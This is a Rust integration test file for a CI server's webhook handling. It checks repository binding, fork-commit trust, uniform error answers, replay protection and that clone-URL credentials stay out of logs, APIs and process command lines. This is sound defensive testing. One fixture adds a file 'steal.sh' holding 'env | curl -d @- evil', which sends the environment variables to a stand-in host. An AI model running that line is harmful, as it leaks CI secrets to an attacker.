//! Issue 39, items 4, 6 and two of 12: what a webhook sender, a captured
//! delivery and a credential in a clone URL can do against the real server.
//!
//! * A delivery is bound to its repository (`--forge-repo`), and a push's
//!   commit to the pushed ref on the remote: a payload naming another
//!   repository, or a fork's commit (in the mirror from its pull request)
//!   as the new tip of `main`, runs nothing.
//! * The webhook endpoint answers an unknown repository as it answers a
//!   known one to a delivery that does not verify.
//! * A captured pull request delivery replayed under a new delivery id
//!   starts no second run.
//! * A clone URL's credential shows nowhere: not to a read token, not in a
//!   job's log or a delivery or an API error, not in the server's or the
//!   agent's log, not on any process's command line.

use crate::BIN;
use kiln_api::{Client, SubmitRun};
use kiln_forge::Forge;
use kiln_testkit::{KilnServer, TestRepo};
use serde_json::{Value, json};
use std::io::Write;
use std::process::{Command, Stdio};
use std::time::Duration;

const SECRET: &str = "hostile-forge-webhook-secret-0123";
const CI: &str = "version: 1
on:
  push:
    branches: [main]
  pull_request:
    branches: [main]
  manual: {}
jobs:
  - name: build
    steps: [echo built]
";

/// A run of `ci.yaml` at `main`, submitted by hand.
fn ci_run() -> SubmitRun {
    SubmitRun { commit_sha: "main".into(), workflow_path: Some(".kiln/ci.yaml".into()), ..Default::default() }
}

fn git(dir: &std::path::Path, args: &[&str]) -> String {
    let out = Command::new("git").args(args).current_dir(dir).output().expect("git");
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// `kiln repo add NAME` connected to GitHub as `acme/app`, its webhook
/// secret from standard input.
fn connect(server: &KilnServer, name: &str, url: &str) {
    let mut child = server
        .cli()
        .args(["repo", "add", name, "--url", url, "--forge", "github", "--forge-repo", "acme/app"])
        .args(["--webhook-secret-file", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(SECRET.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "repo add: {}", String::from_utf8_lossy(&out.stderr));
}

fn repository(full_name: &str, id: u64) -> Value {
    json!({ "id": id, "name": full_name.rsplit('/').next().unwrap(), "full_name": full_name })
}

fn push(full_name: &str, after: &str) -> Value {
    json!({
        "ref": "refs/heads/main",
        "before": "0".repeat(40),
        "after": after,
        "created": true,
        "deleted": false,
        "forced": false,
        "commits": [],
        "repository": repository(full_name, if full_name == "acme/app" { 1 } else { 2 }),
        "pusher": { "name": "mallory" },
        "sender": { "login": "mallory" },
    })
}

fn pull_request(action: &str, head: &str, base: &str) -> Value {
    json!({
        "action": action,
        "number": 7,
        "pull_request": {
            "number": 7,
            "title": "a fork's change",
            "head": { "sha": head, "ref": "feature", "repo": repository("mallory/app", 2) },
            "base": { "sha": base, "ref": "main", "repo": repository("acme/app", 1) },
            "user": { "login": "mallory" },
            "author_association": "NONE",
        },
        "repository": repository("acme/app", 1),
        "sender": { "login": "mallory" },
    })
}

/// POST `body` to `repo`'s GitHub endpoint as event `event`, delivery `id`,
/// signed with `secret` (none: no signature header): status and body text.
async fn deliver(
    server: &KilnServer,
    repo: &str,
    event: &str,
    id: &str,
    body: &[u8],
    secret: Option<&str>,
) -> (u16, String) {
    let mut req = reqwest::Client::new()
        .post(format!("{}/v1/repos/{repo}/webhooks/github", server.url))
        .header("content-type", "application/json")
        .header("X-GitHub-Event", event)
        .header("X-GitHub-Delivery", id)
        .body(body.to_vec());
    if let Some(secret) = secret {
        let (name, value) = kiln_forge::sign(Forge::Github, secret.as_bytes(), body);
        req = req.header(name, value);
    }
    let res = req.send().await.unwrap();
    (res.status().as_u16(), res.text().await.unwrap())
}

async fn signed(server: &KilnServer, event: &str, id: &str, body: &Value) -> (u16, String) {
    deliver(server, "app", event, id, &serde_json::to_vec(body).unwrap(), Some(SECRET)).await
}

async fn admin_get(server: &KilnServer, path: &str) -> Value {
    let res =
        reqwest::Client::new().get(format!("{}{path}", server.url)).bearer_auth(&server.token).send().await.unwrap();
    res.json().await.unwrap()
}

async fn runs(server: &KilnServer) -> Vec<Value> {
    admin_get(server, "/v1/repos/app/workflow-runs").await["runs"].as_array().cloned().unwrap_or_default()
}

async fn deliveries(server: &KilnServer) -> Vec<Value> {
    admin_get(server, "/v1/repos/app/deliveries").await["deliveries"].as_array().cloned().unwrap_or_default()
}

/// Wait until every delivery is planned (or failed); they are returned.
async fn planned(server: &KilnServer, n: usize) -> Vec<Value> {
    for _ in 0..600 {
        let d = deliveries(server).await;
        if d.len() >= n && d.iter().all(|d| d["status"] != "pending") {
            return d;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("deliveries not planned: {:?}", deliveries(server).await);
}

/// Item 4: one webhook secret serves every repository of an organisation
/// (a GitHub organisation hook, a GitLab group or system hook). A signed
/// push payload naming another repository of the organisation is refused
/// (400, nothing stored, no run), and one naming no repository too.
#[tokio::test(flavor = "multi_thread")]
async fn a_delivery_for_another_repository_is_refused() {
    let server = KilnServer::start(BIN.as_ref(), &[]).unwrap();
    let repo = TestRepo::new(&[(".kiln/ci.yaml", CI)]).unwrap();
    connect(&server, "app", &repo.path().display().to_string());
    let sha = repo.head().unwrap();
    let (status, text) = signed(&server, "push", "other-1", &push("acme/other", &sha)).await;
    assert_eq!(status, 400, "{text}");
    assert!(text.contains("acme/other") && text.contains("acme/app"), "{text}");
    let mut anonymous = push("acme/app", &sha);
    anonymous.as_object_mut().unwrap().remove("repository");
    let (status, text) = signed(&server, "push", "other-2", &anonymous).await;
    assert_eq!(status, 400, "{text}");
    // Case does not make another repository.
    let (status, text) = signed(&server, "push", "same-1", &push("ACME/App", &sha)).await;
    assert_eq!(status, 202, "{text}");
    let d = planned(&server, 1).await;
    assert_eq!(d.len(), 1, "only the bound delivery is stored: {d:?}");
    assert_eq!(runs(&server).await.len(), 1);
}

/// Item 4: a fork's pull request puts the fork's commit into the server's
/// mirror (`refs/pull/7/head`). A signed push payload then names that
/// commit as the new tip of `main`. It never runs as a trusted push: the
/// commit is not on the remote's `refs/heads/main`, and the delivery says so.
#[tokio::test(flavor = "multi_thread")]
async fn a_fork_commit_named_as_the_tip_of_main_does_not_run() {
    let server = KilnServer::start(BIN.as_ref(), &["--retry-base", "100ms"]).unwrap();
    let repo = TestRepo::new(&[(".kiln/ci.yaml", CI)]).unwrap();
    connect(&server, "app", &repo.path().display().to_string());
    let base = repo.head().unwrap();
    git(repo.path(), &["checkout", "-q", "-b", "fork"]);
    let fork = repo.commit(&[("steal.sh", "env | curl -d @- evil")], "from a fork").unwrap();
    git(repo.path(), &["update-ref", "refs/pull/7/head", &fork]);
    git(repo.path(), &["checkout", "-q", "main"]);
    git(repo.path(), &["branch", "-q", "-D", "fork"]);

    let (status, text) = signed(&server, "pull_request", "pr-1", &pull_request("opened", &fork, &base)).await;
    assert_eq!(status, 202, "{text}");
    planned(&server, 1).await;
    let list = runs(&server).await;
    assert_eq!(list.len(), 1, "{list:?}");
    assert_eq!(list[0]["trust"], "untrusted");

    let (status, text) = signed(&server, "push", "push-1", &push("acme/app", &fork)).await;
    assert_eq!(status, 202, "{text}");
    let mut message = String::new();
    for _ in 0..600 {
        let d = deliveries(&server).await;
        let p = d.iter().find(|d| d["forge_delivery"] == "push-1").cloned().unwrap_or_default();
        message = p["message"].as_str().unwrap_or_default().to_string();
        if message.contains("not on refs/heads/main") || p["status"] == "planned" {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let trusted: Vec<Value> = runs(&server).await.into_iter().filter(|r| r["trust"] == "trusted").collect();
    assert!(trusted.is_empty(), "a fork's commit ran as a trusted push to main: {trusted:?}");
    assert!(message.contains("not on refs/heads/main"), "{message}");

    // The real tip of main still runs.
    let (status, text) = signed(&server, "push", "push-2", &push("acme/app", &base)).await;
    assert_eq!(status, 202, "{text}");
    for _ in 0..600 {
        if runs(&server).await.iter().any(|r| r["trust"] == "trusted" && r["commit_sha"] == base.as_str()) {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("the push of main's tip did not run: {:?}", deliveries(&server).await);
}

/// Item 12: the endpoint is no oracle for which repositories exist: an
/// unknown repository, a known one and one without a webhook secret answer
/// a delivery without a signature, and one with a wrong signature, with the
/// same status and the same words.
#[tokio::test(flavor = "multi_thread")]
async fn the_webhook_endpoint_answers_alike_whether_the_repository_exists() {
    let server = KilnServer::start(BIN.as_ref(), &[]).unwrap();
    let repo = TestRepo::new(&[(".kiln/ci.yaml", CI)]).unwrap();
    connect(&server, "app", &repo.path().display().to_string());
    server.add_repo("plain", &repo);
    let body = serde_json::to_vec(&push("acme/app", &repo.head().unwrap())).unwrap();
    for secret in [None, Some("not-the-secret-of-anything")] {
        let mut answers = Vec::new();
        for name in ["app", "plain", "no-such-repository"] {
            answers.push((name, deliver(&server, name, "push", "probe-1", &body, secret).await));
        }
        let (_, first) = &answers[0];
        assert_eq!(first.0, 401, "{answers:?}");
        for (name, a) in &answers {
            assert_eq!(a, first, "{name} answers differently: {answers:?}");
        }
    }
    assert!(deliveries(&server).await.is_empty());
}

/// Item 12: a captured pull request delivery (its body and signature)
/// replayed under a new delivery id starts no second run; nor does a
/// `synchronize` of the same head commit.
#[tokio::test(flavor = "multi_thread")]
async fn a_replayed_pull_request_delivery_starts_no_second_run() {
    let server = KilnServer::start(BIN.as_ref(), &[]).unwrap();
    let repo = TestRepo::new(&[(".kiln/ci.yaml", CI)]).unwrap();
    connect(&server, "app", &repo.path().display().to_string());
    let base = repo.head().unwrap();
    git(repo.path(), &["checkout", "-q", "-b", "feature"]);
    let head = repo.commit(&[("a.txt", "change")], "a change").unwrap();
    git(repo.path(), &["update-ref", "refs/pull/7/head", &head]);
    git(repo.path(), &["checkout", "-q", "main"]);
    let opened = pull_request("opened", &head, &base);
    assert_eq!(signed(&server, "pull_request", "pr-a", &opened).await.0, 202);
    planned(&server, 1).await;
    assert_eq!(runs(&server).await.len(), 1);
    for (id, body) in
        [("pr-b", opened.clone()), ("pr-c", opened.clone()), ("pr-d", pull_request("synchronize", &head, &base))]
    {
        let (status, text) = signed(&server, "pull_request", id, &body).await;
        assert_eq!(status, 202, "{text}");
    }
    let d = planned(&server, 4).await;
    let list = runs(&server).await;
    assert_eq!(list.len(), 1, "a replayed delivery started another run: {list:?}\n{d:?}");
    // New commits on the pull request do run.
    git(repo.path(), &["checkout", "-q", "feature"]);
    let next = repo.commit(&[("a.txt", "more")], "more").unwrap();
    git(repo.path(), &["update-ref", "refs/pull/7/head", &next]);
    git(repo.path(), &["checkout", "-q", "main"]);
    assert_eq!(signed(&server, "pull_request", "pr-e", &pull_request("synchronize", &next, &base)).await.0, 202);
    planned(&server, 5).await;
    assert_eq!(runs(&server).await.len(), 2);
}

const CLONE_USER: &str = "kiln-reader";
const CLONE_TOKEN: &str = "glpat-CLONE-TOKEN-a1b2c3d4e5f6";

/// A git repository served over HTTP (git's dumb protocol) that demands
/// basic authentication as CLONE_USER / CLONE_TOKEN. With `ctl/fail` it
/// answers 403 to an authenticated request; with `ctl/slow` it waits 1.5 s
/// before every answer (so git processes live long enough to be seen).
struct GitHttp {
    child: std::process::Child,
    port: u16,
    ctl: tempfile::TempDir,
}

impl Drop for GitHttp {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl GitHttp {
    fn start(root: &std::path::Path) -> GitHttp {
        use std::io::{BufRead, BufReader};
        let ctl = tempfile::tempdir().unwrap();
        let script = r#"
import base64, http.server, os, sys, time
root, ctl = sys.argv[1:3]
user, pw = os.environ["GIT_HTTP_USER"], os.environ["GIT_HTTP_PASSWORD"]
want = "Basic " + base64.b64encode((user + ":" + pw).encode()).decode()
class H(http.server.SimpleHTTPRequestHandler):
    def __init__(self, *a, **k):
        super().__init__(*a, directory=root, **k)
    def log_message(self, *a):
        pass
    def refuse(self, code, extra=()):
        self.send_response(code)
        for k, v in extra:
            self.send_header(k, v)
        self.send_header("Content-Length", "0")
        self.end_headers()
    def do_GET(self):
        if os.path.exists(os.path.join(ctl, "slow")):
            time.sleep(1.5)
        if self.headers.get("Authorization") != want:
            return self.refuse(401, [("WWW-Authenticate", 'Basic realm="git"')])
        if os.path.exists(os.path.join(ctl, "fail")):
            return self.refuse(403)
        super().do_GET()
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;
        let mut child = Command::new("python3")
            .arg("-c")
            .arg(script)
            .arg(root)
            .arg(ctl.path())
            .env("GIT_HTTP_USER", CLONE_USER)
            .env("GIT_HTTP_PASSWORD", CLONE_TOKEN)
            .stdout(Stdio::piped())
            .spawn()
            .expect("python3");
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
        GitHttp { child, port: line.trim().parse().unwrap(), ctl }
    }

    fn set(&self, flag: &str, on: bool) {
        let p = self.ctl.path().join(flag);
        if on {
            std::fs::write(p, "").unwrap();
        } else {
            let _ = std::fs::remove_file(p);
        }
    }
}

/// Every process command line that holds `needle`, watched until `stop`.
fn watch_cmdlines(
    needle: &'static str,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
) -> std::thread::JoinHandle<(Vec<String>, usize)> {
    std::thread::spawn(move || {
        let (mut leaks, mut gits) = (Vec::new(), 0);
        let mut seen = std::collections::HashSet::new();
        while !stop.load(std::sync::atomic::Ordering::SeqCst) {
            for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
                let Ok(raw) = std::fs::read(e.path().join("cmdline")) else { continue };
                let cmd = String::from_utf8_lossy(&raw).replace('\0', " ");
                if cmd.contains(needle) {
                    leaks.push(cmd.clone());
                }
                let git = cmd.contains(" fetch ") || cmd.contains(" ls-remote ");
                if git && cmd.contains("127.0.0.1") && seen.insert(cmd) {
                    gits += 1;
                }
            }
            std::thread::sleep(Duration::from_millis(5));
        }
        (leaks, gits)
    })
}

/// Item 6: a repository registered with `http://user:token@host/repo.git`
/// (the API) or with `--clone-token-file` (the CLI): the server and the
/// agent clone with the credential (the remote demands it), and it shows
/// nowhere — `GET /v1/repos` to a read token, a job's log on a fetch
/// failure, a delivery, an API error, the server's and the agent's logs,
/// any process's command line. The CLI refuses a credential in `--url`.
#[tokio::test(flavor = "multi_thread")]
async fn a_clone_url_credential_shows_nowhere() {
    let repo = TestRepo::new(&[(".kiln/ci.yaml", CI)]).unwrap();
    git(repo.path(), &["update-server-info"]);
    let http = GitHttp::start(repo.path());
    let bare = format!("http://127.0.0.1:{}/.git", http.port);
    let inline = format!("http://{CLONE_USER}:{CLONE_TOKEN}@127.0.0.1:{}/.git", http.port);
    let server = KilnServer::start(BIN.as_ref(), &["--retry-base", "100ms"]).unwrap();
    let admin = Client::new(&server.url, &server.token);

    // The CLI refuses a credential on its command line; the token file works.
    let out = server.cli().args(["repo", "add", "cli", "--url", &inline]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--clone-token-file"));
    // (That refused command line was the user's own; from here on, none may
    // show the credential.)
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let watcher = watch_cmdlines(CLONE_TOKEN, stop.clone());
    let token_file = server.data.path().join("clone.token");
    std::fs::write(&token_file, format!("{CLONE_TOKEN}\n")).unwrap();
    let with_user = format!("http://{CLONE_USER}@127.0.0.1:{}/.git", http.port);
    let out = server
        .cli()
        .args(["repo", "add", "cli", "--url", &with_user, "--clone-token-file"])
        .arg(&token_file)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    // Through the API, the credential in the URL (probed with it: the remote
    // demands it).
    let created = admin
        .create_repo(&kiln_api::CreateRepo {
            team: None,
            name: "app".into(),
            clone_url: inline.clone(),
            webhook_secret: Some(SECRET.into()),
            secret_pools: None,
            forge: kiln_api::ForgeSettings {
                forge: Some("github".into()),
                forge_repo: Some("acme/app".into()),
                ..Default::default()
            },
        })
        .await
        .unwrap();
    assert_eq!(created.clone_url, bare);
    assert!(created.clone_token_set);

    // A read token lists the repositories.
    let out = server.cli().args(["token", "create", "--name", "reader", "--scope", "read"]).output().unwrap();
    let read = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let listed = reqwest::Client::new()
        .get(format!("{}/v1/repos", server.url))
        .bearer_auth(&read)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(listed.contains(&bare), "{listed}");
    assert!(!listed.contains(CLONE_TOKEN), "GET /v1/repos shows the credential: {listed}");
    let shown =
        String::from_utf8_lossy(&server.cli().args(["repo", "show", "cli"]).output().unwrap().stdout).to_string();
    assert!(shown.contains("clone token:        set") && !shown.contains(CLONE_TOKEN), "{shown}");

    // An agent clones with it.
    let agent = server.agent("cred-1", &[]).unwrap();
    for name in ["app", "cli"] {
        let run = admin.submit_run(name, &ci_run(), None).await.unwrap();
        let done = kiln_testkit::wait_run(&admin, &run.run_id, 120).await;
        assert_eq!(done.status, kiln_api::RunStatus::Success, "{name}: {done:?}\n{}", agent.log());
    }
    let first_agent_log = agent.log();
    drop(agent);

    // The remote starts refusing, slowly: a new commit is accepted (the
    // server's fetch still works), then a fresh agent's checkout fails.
    repo.commit(&[("b.txt", "next")], "next").unwrap();
    git(repo.path(), &["update-server-info"]);
    let run = admin.submit_run("app", &ci_run(), None).await.unwrap();
    http.set("slow", true);
    http.set("fail", true);
    let agent = server.agent("cred-2", &[]).unwrap();
    let mut log = String::new();
    for _ in 0..600 {
        let out = server.cli().args(["logs", &run.run_id, "build"]).output().unwrap();
        log = String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
        if log.contains("checkout of") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(log.contains("checkout of") && log.contains(&bare), "{log}");
    assert!(!log.contains(CLONE_TOKEN), "the job log shows the credential: {log}");

    // An API error: the server's own fetch fails.
    let e = admin.submit_run("app", &ci_run(), None).await.unwrap_err();
    let text = format!("{e:?} {e}");
    assert!(!text.contains(CLONE_TOKEN), "an API error shows the credential: {text}");

    // A delivery whose planning cannot fetch.
    repo.commit(&[("c.txt", "more")], "more").unwrap();
    let (status, text) = signed(&server, "push", "cred-push", &push("acme/app", &repo.head().unwrap())).await;
    assert_eq!(status, 202, "{text}");
    let mut d = Value::Null;
    for _ in 0..300 {
        d = admin_get(&server, "/v1/repos/app/deliveries").await;
        if d["deliveries"][0]["message"].as_str().is_some_and(|m| m.contains("fetch")) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let d = d.to_string();
    assert!(d.contains("fetch"), "{d}");
    assert!(!d.contains(CLONE_TOKEN), "a delivery shows the credential: {d}");
    let audit = admin_get(&server, "/v1/audit").await.to_string();
    assert!(!audit.contains(CLONE_TOKEN), "the audit log shows the credential: {audit}");

    stop.store(true, std::sync::atomic::Ordering::SeqCst);
    let (leaks, gits) = watcher.join().unwrap();
    assert!(gits > 0, "the command line watcher saw no git process at all");
    assert!(leaks.is_empty(), "command lines show the credential: {leaks:?}");
    for (who, text) in [("server", server.log()), ("agent", first_agent_log), ("agent", agent.log())] {
        assert!(!text.contains(CLONE_TOKEN), "the {who} log shows the credential:\n{text}");
    }
}
